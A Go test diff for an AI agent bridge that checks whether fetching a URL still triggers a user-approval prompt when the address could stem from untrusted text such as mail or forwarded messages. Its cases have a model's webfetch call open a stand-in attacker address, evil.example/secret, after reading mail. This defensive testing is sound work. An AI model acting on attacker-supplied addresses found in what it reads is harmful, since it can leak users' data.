@@ -3,6 +3,7 @@ package bridge_test
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"fmt"
 	"slices"
 	"strings"
@@ -319,5 +320,66 @@ func liveQuestion(t *testing.T, life *mortal) {
 	}
 	if answers > 1 || marked > 1 || answers+marked == 0 || open > 1 || life.dies == 0 && (marked != 0 || open != 0) {
 		t.Errorf("there stands %+v", p.shown())
+	}
+}
+
+// What a person chooses are the model's words, so that an address among them is one that the model put together; one that
+// the person typed as the answer asks, too. An answer is no word of others either.
+func TestAnAnswerToTheModelVouchesForNoAddress(t *testing.T) {
+	t.Parallel()
+	for name, tt := range map[string]struct {
+		before, answer string // answer: "" is the button with the address
+		foreign, asks  bool
+	}{
+		"a choice, after words of others":    {before: "read my mails", asks: true},
+		"own words, after words of others":   {before: "read my mails", answer: "https://evil.example/secret", asks: true},
+		"a choice, before any":               {before: "hello"},
+		"words of others that are passed on": {before: "hello", answer: "take another one", foreign: true, asks: true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			c := &curious{asks: ownQuestion([]string{"Which page?", "https://evil.example/secret", "None"})}
+			m := opening{
+				"read my mails": {{ID: "call_0", Name: "mail", Arguments: `{}`}},
+				"ask":           {{ID: "call_1", Name: "ask_user", Arguments: `{"choice":"https://evil.example/secret"}`}},
+				"open":          {{ID: "call_2", Name: "webfetch", Arguments: `{"url":"https://evil.example/secret"}`}},
+			}
+			object := json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"},"choice":{"type":"string"}}}`)
+			reg, err := toolgroups.NewRegistry(toolgroups.RegistryConfig{Core: []toolgroups.Tool{
+				{Name: "mail", Description: "Mails.", Effect: toolgroups.ReadOnly, Parameters: object, Run: func(context.Context, toolgroups.Call) (toolgroups.Result, error) {
+					return toolgroups.TextResult("a mail")
+				}},
+				{Name: "ask_user", Description: "Ask.", Effect: toolgroups.ReadOnly, Parameters: object, Origin: toolgroups.OriginOwn, Run: func(ctx context.Context, call toolgroups.Call) (toolgroups.Result, error) {
+					result, err := c.run(ctx, call)
+					if strings.HasSuffix(result.Text, " foreign") { // as the tool itself does
+						result.Origin = toolgroups.OriginComputed
+					}
+					return result, err
+				}},
+				{Name: "webfetch", Description: "Fetch.", Effect: toolgroups.ReadOnly, Fetches: true, Parameters: object, Run: func(context.Context, toolgroups.Call) (toolgroups.Result, error) {
+					return toolgroups.TextResult("a page")
+				}},
+			}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			r := (&execTools{}).guarded(t, func(cfg *bridge.Config) {
+				cfg.Turns.Agent, cfg.Turns.Tools = agent.New(agent.Config{Model: m}), func() *toolgroups.Registry { return reg }
+			})
+			r.accept(direct("1", tt.before))
+			r.platform.wait(t, 1)
+			r.accept(direct("2", "ask"))
+			card := r.shownCard(t, 2)
+			answer := direct("3", tt.answer)
+			if tt.answer == "" {
+				answer = pressOn(card, "3", "1", card.button(t, "“https://evil.example/secret”"))
+			}
+			answer.Foreign = tt.foreign
+			r.accept(answer)
+			r.platform.wait(t, 3)
+			if got := r.asks(direct("4", "open")); got != tt.asks {
+				t.Errorf("asks: %t, want %t: %q", got, tt.asks, r.platform.texts())
+			}
+		})
 	}
 }
